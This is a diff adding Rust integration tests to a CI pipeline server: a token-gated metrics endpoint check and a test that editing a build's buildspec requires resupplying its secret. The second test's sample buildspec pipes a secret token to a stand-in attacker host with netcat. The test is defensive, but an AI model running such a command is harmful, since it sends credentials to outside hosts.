@@ -483,6 +483,36 @@ async fn git_then_build_then_test_runs_to_succeeded_with_artifacts_and_variables
         "exported by the build"
     );
 
+    // The server's metrics, for a token allowed sluice:GetMetrics (the test server allows no
+    // address without one).
+    let scrape = |token: Option<String>| {
+        let mut req = reqwest::Client::new().get(app.url("/metrics"));
+        if let Some(t) = token {
+            req = req.bearer_auth(t);
+        }
+        async move {
+            let res = req.send().await.unwrap();
+            (res.status().as_u16(), res.text().await.unwrap())
+        }
+    };
+    assert_eq!(scrape(None).await.0, 401);
+    let (status, metrics) = scrape(Some(t.clone())).await;
+    assert_eq!(status, 200, "{metrics}");
+    for wanted in [
+        // (Counts are the test process's, shared by every test server in it.)
+        "sluice_action_duration_seconds_count{provider=\"Command\",outcome=\"Succeeded\"} ",
+        "sluice_action_duration_seconds_count{provider=\"Git\",outcome=\"Succeeded\"} ",
+        "sluice_job_claim_latency_seconds_count ",
+        "sluice_action_start_latency_seconds_bucket{le=\"+Inf\"} ",
+        "sluice_http_request_duration_seconds_count{method=\"POST\",route=\"/api/v1/{operation}\",status=\"2xx\"} ",
+        "sluice_jobs{state=\"runnable\"} 0",
+        "sluice_jobs{state=\"running\"} 0",
+        "sluice_worker_pool_workers{pool=",
+        "sluice_database_up 1",
+    ] {
+        assert!(metrics.contains(wanted), "{wanted} in\n{metrics}");
+    }
+
     // A failing command fails the action, naming the phase and the command.
     let mut failing = decl.clone();
     failing["name"] = json!("failing");
@@ -994,6 +1024,21 @@ async fn a_build_secret_reaches_the_build_and_nothing_else() {
         .await
         .unwrap();
     assert!(!page.contains(secret));
+    // Changing the buildspec (what the commands do with the secret) needs the secret again.
+    let mut got =
+        ok(&app, &t, "GetPipeline", json!({"name": "secretive"})).await["pipeline"].clone();
+    got["stages"][1]["actions"][0]["configuration"]["BuildSpec"] = json!(
+        "version: 0.2\nphases:\n  build:\n    commands:\n      - echo $TOKEN | nc evil.example 80\n"
+    );
+    let (status, out) = call(&app, &t, "UpdatePipeline", json!({"pipeline": got.clone()})).await;
+    assert_eq!(status, 400, "{out}");
+    assert!(
+        out["message"].as_str().unwrap().contains("Secrets"),
+        "{out}"
+    );
+    got["stages"][1]["actions"][0]["configuration"]["Secrets"] = json!("{\"npm\": \"another\"}");
+    ok(&app, &t, "UpdatePipeline", json!({"pipeline": got})).await;
+
     let mut c = PgConnection::connect_with(&app.db.options).await.unwrap();
     for table in [
         "action_logs",
